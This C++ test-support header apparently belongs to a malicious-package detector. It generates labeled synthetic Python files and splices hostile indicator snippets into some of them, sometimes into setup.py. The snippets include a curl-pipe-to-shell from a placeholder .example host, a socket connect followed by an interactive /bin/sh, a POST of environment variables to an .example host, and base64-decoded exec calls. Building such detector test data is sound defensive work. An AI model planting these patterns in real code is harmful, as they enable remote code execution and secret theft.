#pragma once

#include <string>
#include <vector>

#include "pkgsentry/core.hpp"
#include "pkgsentry/dataset.hpp"

namespace testsupport {

// Seeded generator of labeled Python files: benign templates with randomized
// identifiers, and malicious files that splice an indicator snippet into one.
struct SyntheticFile {
  std::string package_id;
  std::string relative_path;
  std::string content;
  pkgsentry::Label label = pkgsentry::Label::Benign;
};

namespace detail {

inline const std::vector<std::string>& nouns() {
  static const std::vector<std::string> v{"config", "record", "buffer", "matrix", "token",  "window", "parser",
                                          "cache",  "queue",  "vector", "report", "schema", "stream", "widget",
                                          "bucket", "cursor", "ledger", "packet", "sample", "tensor"};
  return v;
}

inline const std::vector<std::string>& verbs() {
  static const std::vector<std::string> v{"load", "merge", "split", "render", "update", "build", "format",
                                          "parse", "scale", "filter", "encode", "resize", "count", "sort"};
  return v;
}

inline std::string pick(pkgsentry::SplitMix64& rng, const std::vector<std::string>& v) {
  return v[static_cast<std::size_t>(rng.below(v.size()))];
}

inline std::string b64ish(pkgsentry::SplitMix64& rng, std::size_t n) {
  static const std::string alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string s;
  for (std::size_t i = 0; i < n; ++i) s += alphabet[static_cast<std::size_t>(rng.below(alphabet.size()))];
  return s;
}

inline std::string benign_body(pkgsentry::SplitMix64& rng) {
  const auto noun = pick(rng, nouns());
  const auto verb = pick(rng, verbs());
  const auto other = pick(rng, nouns());
  std::string s;
  switch (rng.below(4)) {
    case 0:
      s = "import math\n\n\ndef " + verb + "_" + noun + "(" + noun + ", factor=" + std::to_string(1 + rng.below(9)) +
          "):\n    total = 0\n    for item in " + noun + ":\n        total += math.sqrt(abs(item)) * factor\n"
          "    return total\n";
      break;
    case 1:
      s = "class " + std::string(1, static_cast<char>(noun[0] - 32)) + noun.substr(1) +
          "Store:\n    def __init__(self):\n        self." + other + "s = {}\n\n    def " + verb +
          "(self, key, value):\n        self." + other + "s[key] = value\n        return len(self." + other +
          "s)\n";
      break;
    case 2:
      s = "from dataclasses import dataclass\n\n\n@dataclass\nclass " + std::string(1, static_cast<char>(other[0] - 32)) +
          other.substr(1) + ":\n    name: str\n    size: int = " + std::to_string(rng.below(100)) +
          "\n\n\ndef " + verb + "(items):\n    return sorted(items, key=lambda x: x.size)\n";
      break;
    default:
      s = "import json\n\n\ndef " + verb + "_" + noun + "(text):\n    data = json.loads(text)\n    return {k: v for k, v in data.items() if k != '" +
          other + "'}\n";
      break;
  }
  return s;
}

inline std::string indicator_snippet(pkgsentry::SplitMix64& rng) {
  const auto var = pick(rng, nouns());
  switch (rng.below(6)) {
    case 0:
      return "import base64, subprocess\n" + var + " = base64.b64decode('" + b64ish(rng, 48) +
             "')\nsubprocess.Popen(" + var + ", shell=True)\n";
    case 1:
      return "import os\nos.system('curl -s http://" + b64ish(rng, 6) + ".example/x.sh | sh')\n";
    case 2:
      return "import socket, subprocess\ns = socket.socket()\ns.connect(('10.0." + std::to_string(rng.below(255)) +
             ".1', " + std::to_string(4000 + rng.below(999)) + "))\nsubprocess.call(['/bin/sh', '-i'])\n";
    case 3:
      return "import base64\nexec(base64.b64decode('" + b64ish(rng, 40) + "'))\n";
    case 4:
      return "import os, requests\nrequests.post('https://" + b64ish(rng, 8) +
             ".example/c', data=dict(os.environ))\n";
    default:
      return "import zlib, base64\n" + var + " = __import__('builtins')\n" + var +
             ".exec(zlib.decompress(base64.b64decode('" + b64ish(rng, 44) + "')))\n";
  }
}

}  // namespace detail

/// `n_files` files spread over packages of one to four files. Roughly half of
/// the packages are malicious, each with exactly one malicious file.
inline std::vector<SyntheticFile> generate_corpus(std::size_t n_files, std::uint64_t seed) {
  pkgsentry::SplitMix64 rng(seed);
  std::vector<SyntheticFile> out;
  for (std::size_t pkg = 0; out.size() < n_files; ++pkg) {
    const auto id = "synth" + std::to_string(pkg);
    const auto count = std::min<std::size_t>(1 + rng.below(4), n_files - out.size());
    const bool malicious = rng.below(2) == 1;
    const auto bad = static_cast<std::size_t>(rng.below(count));
    for (std::size_t f = 0; f < count; ++f) {
      SyntheticFile file;
      file.package_id = id;
      file.relative_path = f == 0 ? "setup.py" : id + "/" + detail::pick(rng, detail::nouns()) + std::to_string(f) + ".py";
      file.content = detail::benign_body(rng);
      if (malicious && f == bad) {
        const auto snippet = detail::indicator_snippet(rng);
        file.content = rng.below(2) ? snippet + "\n\n" + file.content : file.content + "\n\n" + snippet;
        file.label = pkgsentry::Label::Malicious;
      }
      out.push_back(std::move(file));
    }
  }
  return out;
}

inline std::string to_manifest_jsonl(const std::vector<SyntheticFile>& files) {
  std::string out;
  for (const auto& f : files) {
    pkgsentry::Json line = {{"id", f.package_id + "/" + f.relative_path},
                            {"package_id", f.package_id},
                            {"relative_path", f.relative_path},
                            {"content", f.content},
                            {"label", pkgsentry::to_string(f.label)}};
    out += line.dump() + "\n";
  }
  return out;
}

inline pkgsentry::DatasetManifest to_manifest(const std::vector<SyntheticFile>& files) {
  return pkgsentry::DatasetManifest::parse_jsonl(to_manifest_jsonl(files), "synthetic");
}

}  // namespace testsupport
